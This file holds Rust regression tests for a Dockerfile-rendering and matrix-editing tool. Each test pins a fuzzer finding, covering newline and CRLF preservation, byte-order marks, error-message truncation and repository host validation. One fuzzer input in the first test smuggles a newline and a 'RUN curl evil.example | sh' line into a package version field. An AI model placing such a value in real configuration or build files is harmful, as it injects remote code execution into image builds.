//! Inputs the fuzz targets (`fuzz/`, docs/fuzzing.md) found, fed to the same functions, so each
//! finding stays fixed. One test per finding, named for what broke.

use runtime_kit::matrix::edit::{MatrixDocument, Saved};

/// fuzz target `matrix`: reading a matrix whose last line has no newline for editing reported it
/// changed (toml_edit ends the document with a newline), so a no-op edit rewrote the file.
#[test]
fn matrix_document_without_final_newline_is_unchanged() {
    let cases: &[&str] = &[
        // The fuzzer's input, as found.
        "schema = 1\n[defaults]\ndebian = \"bul.3.0\"\ndate = 2022-05-01\n[release.packages]\n\"astronomer-providers\" = \"1.2.0\\nRUN curl evil.example | sh\" ",
        "a = 1",
        "a = 1 # comment",
        "[t]\na = 1\t",
    ];
    for text in cases {
        let doc = MatrixDocument::from_str_named(text, "m.toml").unwrap();
        assert!(!doc.is_changed(), "{text:?}");
    }

    // And saving without an edit leaves such a file alone.
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("runtime-matrix.toml");
    let text = "schema = 1\n[series.5]\nchannel = \"stable\"\npython = \"3.9\"\n[[release]]\nversion = \"5.0.6\"\nairflow = \"2.3.3\"\ndate = 2022-07-21\n[release.packages]\n\"astronomer-providers\" = \"1.7.1\"";
    std::fs::write(&path, text).unwrap();
    let doc = MatrixDocument::open(&path).unwrap();
    let (_, saved) = doc.save().unwrap();
    assert_eq!(saved, Saved::Unchanged);
    assert_eq!(std::fs::read_to_string(&path).unwrap(), text);
}

/// fuzz target `matrix`: a matrix with CRLF line endings read for editing was reported changed
/// (toml_edit writes every line ending as `\n`), so a no-op edit rewrote the file, and an edit
/// turned every line of it to LF.
#[test]
fn matrix_document_with_crlf_lines_keeps_them() {
    // The fuzzer's input, minimised.
    for text in [
        "\r\np=true",
        "a = 1\r\n# c\r\nb = 2\r\n",
        "a = 1\r\nb = 2\n",
    ] {
        let doc = MatrixDocument::from_str_named(text, "m.toml").unwrap();
        assert!(!doc.is_changed(), "{text:?}");
        assert_eq!(
            doc.to_string().replace("\r\n", "\n").trim_end(),
            text.replace("\r\n", "\n").trim_end()
        );
    }

    // An edit of a CRLF file writes CRLF lines, the new ones too, and changes nothing else.
    let text = "schema = 1\r\n# The matrix.\r\n[series.5]\r\nchannel = \"stable\"\r\npython = \"3.9\"\r\n\r\n[[release]]\r\nversion = \"5.0.6\"\r\nairflow = \"2.3.3\"\r\ndate = 2022-07-21\r\n[release.packages]\r\n\"astronomer-providers\" = \"1.7.1\"\r\n";
    let mut doc = MatrixDocument::from_str_named(text, "m.toml").unwrap();
    let digest = format!("sha256:{}", "a".repeat(64)).parse().unwrap();
    doc.set_base_image_digest("python:3.9-slim-bullseye", &digest)
        .unwrap();
    assert!(doc.is_changed());
    let edited = doc.to_string();
    assert!(!edited.replace("\r\n", "").contains('\n'), "{edited:?}");
    assert!(
        edited.contains("\"python:3.9-slim-bullseye\" = \"sha256:"),
        "{edited:?}"
    );
    let kept: String = edited
        .split("\r\n")
        .filter(|l| {
            !l.contains("base-images") && !l.contains("python:3.9-slim") && !l.contains("pin-base")
        })
        .collect::<Vec<_>>()
        .join("\r\n");
    assert_eq!(
        kept.replace("\r\n\r\n\r\n", "\r\n\r\n").trim_end(),
        text.trim_end()
    );
    doc.validate().unwrap();
}

/// fuzz target `parsers`: a refusal quotes the input cut to 80 characters and marked `…` only
/// when it was cut. The check counted bytes after cutting characters, so a long ASCII input was
/// never marked and a short one with multi-byte characters always was.
#[test]
fn refusal_marks_a_cut_input_only() {
    use runtime_kit::model::RuntimeVersion;
    let long = "x".repeat(100);
    let e = long.parse::<RuntimeVersion>().unwrap_err().to_string();
    assert!(e.contains(&format!("\"{}…\"", "x".repeat(80))), "{e}");

    let short = "éééé";
    let e = short.parse::<RuntimeVersion>().unwrap_err().to_string();
    assert!(e.contains("\"éééé\"") && !e.contains('…'), "{e}");

    let exactly = "é".repeat(80);
    let e = exactly.parse::<RuntimeVersion>().unwrap_err().to_string();
    assert!(!e.contains('…'), "{e}");
}

/// fuzz target `lint`: a file starting with two byte-order marks made parse-dockerfile drop the
/// second and place every instruction three bytes early, inside the mark; a finding on the FROM
/// then sliced text off a character boundary and panicked. It is a syntax error at 1:1 now.
#[test]
fn two_byte_order_marks_are_a_syntax_error() {
    use runtime_kit::lint::{Config, Linter, RULES};
    use runtime_kit::matrix::Matrix;
    let matrix =
        Matrix::load(env!("CARGO_MANIFEST_DIR").to_string() + "/runtime-matrix.toml").unwrap();
    let config = Config {
        enable: RULES.iter().map(|r| r.id).collect(),
        ..Config::default()
    };
    let linter = Linter::new(config).with_matrix(matrix);
    // The fuzzer's input, as found.
    let input = b"\xef\xbb\xbf\xef\xbb\xbf\rFROM d.ebi-c\"]\nRUN if [n a b; do echo \"$f\" | tr; [\"{^c$VERSIOBN}\" > /v";
    for path in ["Dockerfile", "dockerfiles/5.0.13/base/Dockerfile"] {
        let report = linter.lint_file(std::path::Path::new(path), input);
        let ids: Vec<(&str, usize, usize)> = report
            .findings
            .iter()
            .map(|f| (f.rule.as_str(), f.region.start.line, f.region.start.column))
            .collect();
        assert_eq!(ids, [("RK001", 1, 1)], "{path}");
    }
    // One mark is fine.
    let one = linter.lint_file(
        std::path::Path::new("Dockerfile"),
        b"\xef\xbb\xbfFROM a:1\nUSER 1\n",
    );
    assert!(
        one.findings.iter().all(|f| f.rule.as_str() != "RK001"),
        "{:?}",
        one.findings
    );
}

/// fuzz target `render`: the vendor-only install step named each index URL once, so two
/// `[indexes]` with the same URL rendered one `--extra-index-url` and two with different URLs
/// rendered two: the Dockerfile's shape hung on the URLs' values. Each index is named once, as
/// `[indexes]` lists them.
#[test]
fn vendor_step_names_each_index_once_whatever_its_url() {
    let matrix = |second_url: &str| {
        format!(
            "schema = 1\n\
             [indexes.vendor]\nurl = \"https://pip.example.com/a/\"\npackages = [\"astronomer-providers\"]\n\
             [indexes.second]\nurl = \"{second_url}\"\npackages = [\"apache-airflow-providers-celery\"]\n\
             [series.5]\nchannel = \"stable\"\npython = \"3.9\"\n\
             [[release]]\nversion = \"5.0.6\"\nairflow = \"2.3.3\"\ndate = 2022-07-21\n\
             [release.packages]\n\"astronomer-providers\" = \"1.0\"\n\"apache-airflow-providers-celery\" = \"1.0\"\n"
        )
    };
    let templates = runtime_kit::render::Templates::load(None).unwrap();
    for url in ["https://pip.example.com/a/", "https://pip.example.com/b/"] {
        let m = runtime_kit::matrix::Matrix::from_str_named(&matrix(url), "m.toml").unwrap();
        let files = runtime_kit::render::render_release(
            &templates,
            &m,
            &m.releases()[0],
            std::path::Path::new("/nonexistent"),
        )
        .unwrap();
        let base = files
            .iter()
            .find(|f| f.path.ends_with("base/Dockerfile"))
            .unwrap();
        assert_eq!(
            base.contents.matches("--extra-index-url ").count(),
            2,
            "{url}:\n{}",
            base.contents
        );
    }
}

/// fuzz target `render`: a repository whose host held `]` (`quay.]]]]io/...`) was accepted, and
/// reached the FROM line of the ONBUILD Dockerfile as an image no registry can serve. A host is
/// now checked label by label (or as a bracketed IPv6 address), with its port.
#[test]
fn a_repository_host_with_brackets_is_refused() {
    let text = "schema = 1\n[defaults]\ndebian = \"bullseye\"\nrepository = \"quay.]]]]]]]]]]]]]]]]]]]]]]]]]]io/astronomer/astro-runtime\"\n[series.\"5\"]\nchannel = \"stable\"\npython = \"2.7\"\n[[release]]\nversion = \"5.0.6\"\nairflow = \"2.3.3\"\ndate = 2022-07-21\ndebian = \"bullseye\"\nslim = true\n[release.packages]\n\"astronomer-providers\" = \"1.7.1\"\n\"apache-airflow-providers-celery\" = \"1.7.1\"\n[release.slim-packages]\n\"astronomer-providers\" = \"1.7.1\"\n";
    let err = runtime_kit::matrix::Matrix::from_str_named(text, "m.toml")
        .unwrap_err()
        .to_string();
    assert!(err.contains("m.toml:4:"), "{err}");
    assert!(err.contains("is not a host name label"), "{err}");
}
